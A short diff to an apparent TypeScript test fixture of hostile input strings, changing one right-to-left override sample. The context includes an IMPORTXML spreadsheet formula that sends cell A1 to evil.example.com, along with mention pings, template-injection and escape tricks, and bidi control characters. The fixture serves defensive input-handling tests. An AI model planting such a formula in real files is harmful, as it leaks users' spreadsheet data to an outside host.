@@ -14,6 +14,6 @@ export const HOSTILE: Record<string, unknown> = {
 	'a formula': '=IMPORTXML("https://evil.example.com/?q="&A1, "//a")',
 	mentions: '@everyone <!channel> <@&123> <@U1>',
 	quotes: `"Ann" 'O\`Neil' \\ \${1} \r\n $& {{ 7 * 6 }}`,
-	'right-to-left marks': 'Ann \u202egnirts\u202c \u2066\u200f Bell\u2069',
+	'right-to-left marks': 'Ann \u202eneB\u202c \u2066\u200f Bell\u2069',
 	'10,000 characters': 'x'.repeat(10_000),
 };
